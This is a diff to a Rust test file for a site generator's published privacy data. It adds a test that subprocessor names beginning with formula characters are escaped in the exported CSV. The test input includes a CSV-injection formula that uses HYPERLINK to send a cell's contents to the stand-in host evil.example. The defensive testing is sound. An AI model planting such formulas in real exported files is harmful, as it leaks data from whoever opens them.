@@ -109,8 +109,7 @@ fn data_json_csv_and_dpv_state_the_published_facts() {
     assert_eq!(hubspot["personal_data"], true);
     assert_eq!(data["facts"]["breach"]["notification_deadline_hours"], 24);
 
-    let csv = site.read("public/subprocessors.csv");
-    let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
+    let rows = csv_rows(&site.read_bytes("public/subprocessors.csv"));
     assert_eq!(
         rows[0],
         [
@@ -162,4 +161,84 @@ fn data_json_csv_and_dpv_state_the_published_facts() {
         "loc:DE"
     );
     assert_eq!(ld["dpv:hasStorageDuration"]["dpv:hasDuration"], "P2Y");
+}
+
+/// The records of a CSV file as the `csv` crate reads them (the header is the first).
+fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(bytes)
+        .records()
+        .map(|r| {
+            r.expect("a CSV record")
+                .iter()
+                .map(str::to_string)
+                .collect()
+        })
+        .collect()
+}
+
+/// A name a spreadsheet would evaluate as a formula (OWASP's CSV injection) comes out as text,
+/// and the file opens in Excel as UTF-8.
+#[test]
+fn subprocessors_csv_cannot_carry_a_formula_and_declares_utf8() {
+    const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#;
+    let site = Site::example_without_notice();
+    site.replace(
+        "content/subprocessors.toml",
+        "name = \"Voys\"",
+        &format!("name = {}", toml::Value::String(FORMULA.into())),
+    );
+    site.replace(
+        "content/subprocessors.toml",
+        "name = \"Zapier\"",
+        "name = \"Müller GmbH\"",
+    );
+    site.replace(
+        "content/subprocessors.toml",
+        "name = \"Notion\"",
+        "name = \"@SUM(1+1)\"",
+    );
+    site.replace(
+        "content/subprocessors.toml",
+        "name = \"Instatus\"",
+        "name = \"-2+3\"",
+    );
+    site.replace(
+        "content/subprocessors.toml",
+        "name = \"Hubspot\"",
+        "name = \"+Hubspot\"",
+    );
+    site.build_later(&[]).success();
+
+    let bytes = site.read_bytes("public/subprocessors.csv");
+    assert!(
+        bytes.starts_with("\u{feff}".as_bytes()),
+        "no UTF-8 byte order mark: {:?}",
+        String::from_utf8_lossy(&bytes[..bytes.len().min(16)])
+    );
+    let rows = csv_rows(&bytes);
+    assert_eq!(rows[0][0], "name", "the reader drops the byte order mark");
+    let names: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
+    for name in [
+        format!("'{FORMULA}"),
+        "'@SUM(1+1)".into(),
+        "'-2+3".into(),
+        "'+Hubspot".into(),
+        "Müller GmbH".into(),
+        "Slack".into(),
+    ] {
+        assert!(names.contains(&name.as_str()), "no `{name}` in {names:?}");
+    }
+    // No cell of any row starts with a character a spreadsheet evaluates.
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "`{cell}` would be evaluated"
+        );
+    }
+    // The other machine-readable files keep the name as it is.
+    let data: Value = serde_json::from_slice(&site.read_bytes("public/data.json")).unwrap();
+    let subs = data["facts"]["subprocessors"].as_array().unwrap();
+    assert!(subs.iter().any(|s| s["name"] == FORMULA));
 }
